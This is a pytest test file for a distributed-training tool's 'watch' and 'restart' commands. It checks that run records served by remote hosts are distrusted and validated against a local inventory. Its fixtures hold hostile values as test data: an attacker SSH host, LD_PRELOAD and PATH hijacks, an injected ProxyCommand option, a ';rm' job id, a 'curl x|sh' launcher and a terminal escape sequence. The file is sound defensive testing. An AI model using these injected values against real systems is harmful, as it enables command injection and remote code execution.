"""Issue 40 (Medium 6): `rankdeck watch RUN -i INVENTORY` reads the run's record from a host,
and a host's answer is untrusted. A record naming a host the inventory does not is refused
(else a later `restart` from this laptop would reach a host the record chose, as the record
says); the hosts it keeps take their SSH target, python, workdir and env from the inventory;
and a verb that drives a run whose record came from a host shows what it would start first."""

from __future__ import annotations

import json
import os

import pytest

from console.run.hosted_record import ForeignHosts, localized
from inventory.loader import load_inventory
from tests.cli import rankdeck, runs_folder, runs_recorded

RUN = "20260101-000000-abcdef"


def inventory(tmp_path, transport="local"):
    inv = tmp_path / "hosts.yaml"
    inv.write_text("transport: %s\ndefaults:\n  workdir: %s\n  env:\n    MINE: here\n"
                   "hosts:\n  - name: node0\n    addr: 127.0.0.2\n" % (transport, tmp_path))
    return str(inv)


def hosted(tmp_path, hosts, transport="ssh", spec=None):
    """The record as a host serves it, put where its agent's ``record`` request reads it."""
    record = {"run_id": RUN, "created": 0, "transport": transport, "hosts": hosts,
              "spec": spec or {"script": "train.py", "args": ["--lr", "1"]}}
    folder = tmp_path / ".rankdeck" / "runs" / RUN / "node0"
    folder.mkdir(parents=True)
    (folder / "record.json").write_text(json.dumps(record))
    return record


EVIL = {"name": "evil", "addr": "10.9.9.9", "ssh": "attacker@evil.example",
        "python": "/tmp/x/python", "workdir": "/tmp/x", "env": {"LD_PRELOAD": "/tmp/x.so"}}
NODE0 = {"name": "node0", "addr": "10.0.0.1", "ssh": "attacker@elsewhere",
         "python": "/tmp/evil-python", "workdir": "/tmp/evil", "env": {"PATH": "/tmp/evil"}}


def test_watch_refuses_a_record_naming_a_host_the_inventory_does_not(tmp_path):
    inv = inventory(tmp_path)
    hosted(tmp_path, [dict(NODE0), dict(EVIL)])
    out = rankdeck("watch", "--no-tui", RUN, "-i", inv, timeout=120)
    assert out.returncode == 2, out
    assert "names host" in out.stderr and "'evil'" in out.stderr, out.stderr
    assert runs_recorded() == []  # nothing saved: no later verb reaches it


def test_the_hosts_kept_take_their_settings_from_the_inventory(tmp_path):
    inv = load_inventory(inventory(tmp_path))
    record = hosted(tmp_path, [dict(NODE0)])
    (h,) = localized(record, inv, "node0")["hosts"]
    assert (h["addr"], h["ssh"], h["python"], h["workdir"], h["env"]) == (
        "127.0.0.2", inv.hosts[0].ssh, inv.hosts[0].python, str(tmp_path), {"MINE": "here"})
    with pytest.raises(ForeignHosts, match="evil"):
        localized(dict(record, hosts=[dict(NODE0), dict(EVIL)]), inv, "node0")


def test_a_slurm_run_s_nodes_go_through_the_login_host_and_are_checked(tmp_path):
    inv = load_inventory(inventory(tmp_path, "ssh"))
    record = hosted(tmp_path, [dict(EVIL, name="c01", addr="10.1.0.1")], "slurm:123")
    (h,) = localized(record, inv, "node0")["hosts"]
    login = inv.hosts[0]
    assert (h["name"], h["addr"]) == ("c01", "10.1.0.1")
    assert (h["ssh"], h["python"], h["workdir"], h["env"]) == (
        login.ssh, login.python, login.workdir, {"MINE": "here"})
    for bad in ({"name": "c01 -o ProxyCommand=x"}, {"addr": "10.1.0.1 x"}):
        with pytest.raises(ForeignHosts):
            localized(dict(record, hosts=[dict(EVIL, **dict({"name": "c01",
                                                              "addr": "10.1.0.1"}, **bad))]),
                      inv, "node0")
    with pytest.raises(ForeignHosts, match="not a job id"):
        localized(dict(record, transport="slurm:1;rm"), inv, "node0")


@pytest.mark.parametrize("verb", [["restart"], ["uncordon", "--node", "node0"]])
def test_a_verb_that_drives_a_copied_run_shows_its_command_and_asks(tmp_path, verb):
    """The record came from node0 (`copied_from`): restart shows the command it would start
    and, with no terminal to ask and no --yes, starts nothing (exit 2, nothing reached)."""
    os.makedirs(runs_folder())
    record = {"run_id": RUN, "created": 0, "transport": "local", "copied_from": "node0",
              "hosts": [{"name": "node0", "addr": "127.0.0.2", "python": "/nonexistent",
                         "workdir": str(tmp_path)}],
              "spec": {"script": "train.py", "args": ["--evil", "\x1b]52;c;eA==\x07"],
                       "launcher": ["sh", "-c", "curl x|sh"]},
              "roles": {"node0": "cordoned"}}
    with open(os.path.join(runs_folder(), RUN + ".json"), "w") as f:
        json.dump(record, f)
    out = rankdeck(*(verb + [RUN]), timeout=120)
    assert out.returncode == 2, out
    assert "came from its host node0" in out.stderr, out.stderr
    assert "sh -c 'curl x|sh' train.py --evil" in out.stderr, out.stderr
    assert "\x1b" not in out.stderr  # the record's text is cleaned before it is shown
    assert "not confirmed" in out.stderr and "unreachable" not in out.stderr
